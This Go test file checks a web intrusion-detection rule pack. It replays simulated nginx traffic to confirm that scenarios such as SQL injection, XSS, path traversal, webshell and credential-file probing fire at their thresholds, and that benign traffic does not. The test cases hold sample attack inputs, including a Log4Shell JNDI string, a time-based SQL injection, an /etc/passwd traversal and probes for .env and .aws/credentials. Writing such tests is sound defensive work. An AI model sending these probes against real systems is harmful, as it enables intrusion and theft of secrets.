package httprules

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"phalanx"
	"phalanx/scenario"
)

var t0 = time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)

// sim replays requests through the default pack and a real scenario
// engine running the pack's scenarios, as the pipeline will: each hit
// becomes an event with the request's path and the rule as its detail.
type sim struct {
	t      *testing.T
	p      *Pack
	c      *Classifier // what the pipeline uses; checked against p
	e      *scenario.Engine
	line   int64
	alerts []phalanx.Alert
	hits   int
	path   []byte
	buf    []Hit
}

func newSim(t *testing.T) *sim {
	t.Helper()
	p := defaultPack()
	cfg := scenario.DefaultConfig()
	cfg.Scenarios = p.Scenarios()
	e, err := scenario.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return &sim{t: t, p: p, c: p.NewClassifier(), e: e}
}

// send classifies q from src at t0+at and returns the alerts it raised.
func (s *sim) send(src string, at time.Duration, q req) []phalanx.Alert {
	s.t.Helper()
	r := q.request(s.t)
	addr := netip.MustParseAddr(src)
	r.Client, r.Peer = addr, addr
	s.line++
	s.buf = s.c.Classify(r, s.buf[:0])
	if want := s.p.Classify(r, nil); !slices.Equal(s.buf, want) {
		s.t.Fatalf("%v: Classifier says %v, Pack says %v", q, s.buf, want)
	}
	s.path = Path(r, s.path)
	var raised []phalanx.Alert
	for _, h := range s.buf {
		s.hits++
		ev := phalanx.Event{Time: t0.Add(at), Service: "nginx", Kind: h.Kind, Source: addr, Line: s.line, Path: string(s.path), Detail: h.Rule}
		raised = s.e.Observe(&ev, raised)
	}
	s.alerts = append(s.alerts, raised...)
	return raised
}

func scenarioNames(alerts []phalanx.Alert) string {
	var names []string
	for _, a := range alerts {
		names = append(names, a.Scenario+"@"+a.Addr.String())
	}
	return strings.Join(names, ", ")
}

func has(alerts []phalanx.Alert, name string) bool {
	for _, a := range alerts {
		if a.Scenario == name {
			return true
		}
	}
	return false
}

const (
	chrome    = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	firefox   = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
	safari    = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"
	googlebot = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/124.0.6367.201 Safari/537.36"
)

// TestScenariosFire shows, for every scenario of the pack, the attack that
// fires it and that one event fewer does not.
func TestScenariosFire(t *testing.T) {
	cases := []struct {
		scenario string
		n        int           // the request that fires it
		gap      time.Duration // between requests
		req      func(i int) req
	}{
		{"http-probing", 10, time.Second, func(i int) req {
			return req{URI: fmt.Sprintf("/old/page-%d.php", i), Status: 404, Agent: chrome}
		}},
		{"http-sensitive-files", 3, 20 * time.Second, func(i int) req {
			return req{URI: []string{"/.env", "/.git/config", "/.aws/credentials"}[i], Status: 404}
		}},
		{"http-path-traversal", 3, 30 * time.Second, func(i int) req {
			return req{URI: fmt.Sprintf("/download?file=../../../etc/passwd&try=%d", i)}
		}},
		{"http-sqli", 5, 5 * time.Second, func(i int) req {
			return req{URI: fmt.Sprintf("/item?id=%d'+AND+SLEEP(5)--+-", i)}
		}},
		{"http-xss", 5, 5 * time.Second, func(i int) req {
			return req{URI: fmt.Sprintf("/search?q=<script>alert(%d)</script>", i)}
		}},
		{"http-webshell", 2, time.Minute, func(i int) req {
			return req{URI: []string{"/wso.php", "/alfa.php"}[i], Status: 404}
		}},
		{"http-admin-scan", 3, 2 * time.Second, func(i int) req {
			return req{URI: []string{"/phpmyadmin/", "/pma/", "/manager/html"}[i], Status: 404}
		}},
		{"http-bad-user-agent", 2, time.Second, func(i int) req {
			return req{URI: "/", Agent: "sqlmap/1.7.2#stable (https://sqlmap.org)"}
		}},
		{"http-open-proxy", 1, time.Second, func(i int) req {
			return req{Method: "CONNECT", URI: "www.example.org:443", Status: 400}
		}},
		{"http-cve-probe", 1, time.Second, func(i int) req {
			return req{URI: "/", Agent: "${jndi:ldap://198.51.100.7:1389/a}"}
		}},
		{"http-wp-bf", 5, 30 * time.Second, func(i int) req {
			return req{Method: "POST", URI: "/wp-login.php", Status: 200}
		}},
		{"http-xmlrpc-bf", 5, 5 * time.Second, func(i int) req {
			return req{Method: "POST", URI: "/xmlrpc.php", Status: 200}
		}},
		{"http-login-bf", 6, 0, func(i int) req {
			return req{Method: "POST", URI: "/api/login", Status: 401}
		}},
		{"http-rate-limit", 10, time.Second, func(i int) req {
			return req{URI: "/api/search?q=x", Status: 429}
		}},
		{"http-auth-bf", 5, 10 * time.Second, func(i int) req {
			if i%2 == 0 {
				return req{Error: "auth-failure", URI: "/private/"}
			}
			return req{URI: "/private/", Status: 401, User: "admin"}
		}},
		{"http-bad-request", 3, 5 * time.Second, func(i int) req {
			return req{Bad: true, Status: 400}
		}},
	}
	for _, c := range cases {
		t.Run(c.scenario, func(t *testing.T) {
			s := newSim(t)
			for i := range c.n {
				raised := s.send("203.0.113.9", time.Duration(i)*c.gap, c.req(i))
				fired := has(raised, c.scenario)
				switch {
				case i < c.n-1 && fired:
					t.Fatalf("fired on request %d, want %d", i+1, c.n)
				case i == c.n-1 && !fired:
					t.Fatalf("did not fire on request %d (alerts: %s)", c.n, scenarioNames(s.alerts))
				}
			}
		})
	}

	// http-fake-crawler counts the events the pipeline's crawler check
	// raises: the first one fires.
	t.Run("http-fake-crawler", func(t *testing.T) {
		s := newSim(t)
		ev := phalanx.Event{Time: t0, Service: "nginx", Kind: phalanx.KindHTTPFakeCrawler, Source: netip.MustParseAddr("203.0.113.9"), Line: 1, Path: "/"}
		if a := s.e.Observe(&ev, nil); !has(a, "http-fake-crawler") {
			t.Fatalf("alerts %s", scenarioNames(a))
		}
	})
}

// TestScenariosSlowOrRepeated shows attacks paced or shaped below a
// scenario's threshold, and the distinct-path scenarios ignoring repeats.
func TestScenariosSlowOrRepeated(t *testing.T) {
	s := newSim(t)
	// 9 distinct missing pages, the 9th repeated 50 times.
	for i := range 60 {
		s.send("203.0.113.20", time.Duration(i)*time.Second, req{URI: fmt.Sprintf("/p%d", min(i, 8)), Status: 404})
	}
	// 10 distinct missing pages, one every 15 s: each is forgotten 100 s
	// after it was seen, so no more than 7 are remembered at once.
	for i := range 10 {
		s.send("203.0.113.21", time.Duration(i)*15*time.Second, req{URI: fmt.Sprintf("/p%d", i), Status: 404})
	}
	// A failed log-in every 12 s for ten minutes.
	for i := range 50 {
		s.send("203.0.113.22", time.Duration(i)*12*time.Second, req{Method: "POST", URI: "/login", Status: 401})
	}
	// A health check that asks for an absent /actuator every 10 s.
	for i := range 360 {
		s.send("203.0.113.23", time.Duration(i)*10*time.Second, req{URI: "/actuator", Status: 404, Agent: "kube-probe/1.29"})
	}
	if len(s.alerts) > 0 {
		t.Errorf("alerts: %s", scenarioNames(s.alerts))
	}
}

// TestNormalTraffic replays traffic that must never fire a scenario.
func TestNormalTraffic(t *testing.T) {
	s := newSim(t)
	hour := time.Hour

	// A single-page app: every 30 s for two hours, a page load asks for its
	// bundle, a favicon and touch icons that are not there, robots.txt and
	// a source map that are not there either, and its API.
	for i := 0; i < int(2*hour/(30*time.Second)); i++ {
		at := time.Duration(i) * 30 * time.Second
		for _, q := range []req{
			{URI: "/", Status: 200, Agent: chrome},
			{URI: "/static/js/main.4f2a.js", Status: 200, Agent: chrome},
			{URI: "/static/js/main.4f2a.js.map", Status: 404, Agent: chrome},
			{URI: "/favicon.ico", Status: 404, Agent: chrome},
			{URI: "/apple-touch-icon.png", Status: 404, Agent: safari},
			{URI: "/apple-touch-icon-precomposed.png", Status: 404, Agent: safari},
			{URI: "/apple-touch-icon-120x120-precomposed.png", Status: 404, Agent: safari},
			{URI: "/robots.txt", Status: 404, Agent: chrome},
			{URI: "/manifest.json", Status: 404, Agent: chrome},
			{URI: "/.well-known/traffic-advice", Status: 404, Agent: chrome},
			{URI: "/api/v1/items?page=1&sort=select", Status: 200, Agent: chrome},
		} {
			s.send("198.51.100.10", at, q)
		}
	}

	// Uptime monitors: GET / every 30 s for six hours; one of them checks a
	// health path that no longer exists.
	monitors := []struct{ addr, ua, uri string }{
		{"198.51.100.20", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "/"},
		{"198.51.100.21", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "/"},
		{"198.51.100.22", "Go-http-client/1.1", "/healthz"},
		{"198.51.100.23", "curl/8.5.0", "/"},
		{"198.51.100.24", "Blackbox Exporter/0.25.0", "/health"},
	}
	for i := 0; i < int(6*hour/(30*time.Second)); i++ {
		for _, m := range monitors {
			status := 200
			if m.uri == "/health" {
				status = 404
			}
			s.send(m.addr, time.Duration(i)*30*time.Second, req{Method: "HEAD", URI: m.uri, Status: status, Agent: m.ua})
		}
	}

	// API clients whose token expired: a few 401s on GET and POST, a
	// refresh refused, then a new log-in.
	for i, q := range []req{
		{URI: "/api/v1/orders", Status: 401, Agent: "okhttp/4.12.0"},
		{URI: "/api/v1/orders?page=2", Status: 401, Agent: "okhttp/4.12.0"},
		{Method: "POST", URI: "/api/v1/orders", Status: 401, Agent: "okhttp/4.12.0"},
		{Method: "POST", URI: "/api/auth/refresh", Status: 401, Agent: "okhttp/4.12.0"},
		{Method: "POST", URI: "/oauth/token", Status: 401, Agent: "okhttp/4.12.0"},
		{Method: "POST", URI: "/api/auth/login", Status: 200, Agent: "okhttp/4.12.0"},
		{URI: "/api/v1/orders", Status: 200, Agent: "okhttp/4.12.0"},
		{URI: "/api/v1/me", Status: 401, Agent: "python-requests/2.31.0"},
		{URI: "/api/v1/me", Status: 401, Agent: "python-requests/2.31.0"},
		{URI: "/api/v1/me", Status: 401, Agent: "python-requests/2.31.0"},
	} {
		s.send("198.51.100.30", time.Duration(i)*2*time.Second, q)
	}

	// A corporate NAT: 600 requests in 30 minutes from many browsers;
	// missing assets, a few broken links, people signing in (two of them
	// mistyping once), a WordPress editor, basic authentication prompts
	// and one wrong password there.
	agents := []string{chrome, firefox, safari}
	pages := []string{"/", "/products", "/products/shoes", "/blog", "/blog/admin-tips", "/env/setup", "/about", "/contact", "/search?q=union+station", "/search?q=select+a+plan"}
	for i := range 600 {
		at := time.Duration(i) * 3 * time.Second
		q := req{URI: pages[i%len(pages)], Status: 200, Agent: agents[i%len(agents)], Referer: "https://shop.example.com/"}
		switch {
		case i%50 == 7:
			q = req{URI: fmt.Sprintf("/img/banner-%d.webp", i), Status: 404, Agent: agents[i%3]}
		case i%150 == 11:
			q = req{URI: fmt.Sprintf("/blog/post-%d", i), Status: 404, Agent: agents[i%3]}
		case i%200 == 13:
			q = req{Method: "POST", URI: "/login", Status: 401, Agent: agents[i%3]}
		case i%200 == 14:
			q = req{Method: "POST", URI: "/login", Status: 302, Agent: agents[i%3]}
		case i%300 == 17:
			q = req{Method: "POST", URI: "/wp-login.php", Status: 200, Agent: agents[i%3]}
		case i%300 == 18:
			q = req{Method: "POST", URI: "/wp-login.php", Status: 302, Agent: agents[i%3]}
		case i%60 == 19:
			q = req{URI: "/intranet/", Status: 401, Agent: agents[i%3]}
		case i%60 == 20:
			q = req{URI: "/intranet/", Status: 200, User: "bob", Agent: agents[i%3]}
		case i == 321:
			q = req{URI: "/intranet/", Status: 401, User: "carol", Agent: firefox}
		case i == 322:
			q = req{Error: "auth-failure", URI: "/intranet/"}
		case i%40 == 23:
			q = req{None: true, Status: 400} // a browser's unused preconnect
		}
		s.send("198.51.100.40", at, q)
	}

	// A search engine crawling 2000 URLs in an hour, 10% of them dead
	// links, some planted by spammers with scripts and SQL in them.
	for i := range 2000 {
		at := time.Duration(i) * 1800 * time.Millisecond
		q := req{URI: fmt.Sprintf("/catalog/item-%d", i), Status: 200, Agent: googlebot}
		switch {
		case i%10 == 3:
			q.Status = 404
		case i%100 == 5:
			q.URI = fmt.Sprintf("/search?q=<script>alert(%d)</script>", i)
		case i%100 == 6:
			q.URI = fmt.Sprintf("/item?id=%d+union+all+select+null", i)
		case i%250 == 7:
			q = req{URI: "/blog/wp-includes/wlwmanifest.xml", Status: 404, Agent: googlebot}
		}
		s.send("66.249.66.1", at, q)
	}

	// A WordPress site's owner: a failed log-in and a good one, Jetpack's
	// xmlrpc calls all day, and admin pages.
	for i := range 300 {
		at := time.Duration(i) * 20 * time.Second
		s.send("198.51.100.50", at, req{Method: "POST", URI: "/xmlrpc.php?for=jetpack&token=abc", Status: 200, Agent: "Jetpack by WordPress.com"})
	}
	s.send("198.51.100.51", 0, req{Method: "POST", URI: "/wp-login.php", Status: 200, Agent: firefox})
	s.send("198.51.100.51", 20*time.Second, req{Method: "POST", URI: "/wp-login.php", Status: 302, Agent: firefox})
	for i := range 30 {
		s.send("198.51.100.51", 30*time.Second+time.Duration(i)*10*time.Second, req{URI: "/wp-admin/edit.php", Status: 200, Agent: firefox})
	}
	// A developer reloading phpinfo and a monitor reading server-status.
	for i := range 20 {
		s.send("198.51.100.52", time.Duration(i)*5*time.Second, req{URI: "/phpinfo.php", Status: 200, Agent: firefox})
		s.send("127.0.0.1", time.Duration(i)*15*time.Second, req{URI: "/server-status?auto", Status: 200, Agent: "collectd/5.12"})
	}

	// People searching: words SQL and HTML also use, in a quick burst.
	for i, u := range []string{
		"/search?q=union+station", "/search?q=select+a+plan", "/search?search=javascript+tutorial",
		"/search?q=salt+or+pepper", "/search?q=it%27s+or+never", "/search?q=drop+table+lamp",
		"/search?q=sleep+better+tips", "/search?q=script+writing", "/search?q=order+by+price",
		"/search?q=red+alert+2", "/search?q=1%3D1", "/search?q=%3Cb%3Ebold%3C/b%3E",
		"/blog/admin-tips", "/env/setup", "/docs/etc/config", "/search?q=cmd+whoami+windows",
	} {
		s.send("198.51.100.60", time.Duration(i)*time.Second, req{URI: u, Agent: chrome})
	}

	if len(s.alerts) > 0 {
		t.Errorf("normal traffic raised alerts: %s", scenarioNames(s.alerts))
	}
	if st := s.e.Stats(); st.Events == 0 {
		t.Error("no events reached the engine: the replay proves nothing")
	}
}

// TestNaturalTextHasNoHits checks that ordinary URLs and queries yield no
// hit at all, not merely too few to fire.
func TestNaturalTextHasNoHits(t *testing.T) {
	p := defaultPack()
	for _, u := range []string{
		"/search?q=union+station", "/search?q=select+a+plan", "/search?search=javascript+tutorial",
		"/search?q=salt+or+pepper", "/search?q=rock+%27n%27+roll", "/search?q=drop+table+lamp",
		"/search?q=sleep+better", "/search?q=script+writing", "/search?q=order+by+price",
		"/search?q=red+alert+2", "/search?q=the+union+select+committee", "/search?q=or+what",
		"/blog/admin-tips", "/env/setup", "/docs/etc/config", "/blog/how-to-use-wget-and-curl",
		"/products/shoes?color=red&size=42", "/api/v1/items?fields=id,name&sort=-created",
		"/search?q=javascript:+the+good+parts", "/wiki/Union_(set_theory)", "/recipes/or-bread",
		"/?utm_source=newsletter&utm_campaign=spring", "/search?q=c%2B%2B+templates",
		"/account/settings", "/static/app.js?v=1.2.3", "/images/../img/logo.png",
	} {
		r := req{URI: u, Agent: chrome, Referer: "https://www.google.com/"}.request(t)
		hits := p.Classify(r, nil)
		if u == "/images/../img/logo.png" {
			// A relative path a buggy page builds: traversal, but only
			// that (one hit; the scenario needs three).
			if len(hits) != 1 || hits[0].Kind != phalanx.KindHTTPTraversal {
				t.Errorf("%s: hits %v", u, hits)
			}
			continue
		}
		if len(hits) > 0 {
			t.Errorf("%s: hits %v, want none", u, hits)
		}
	}
}
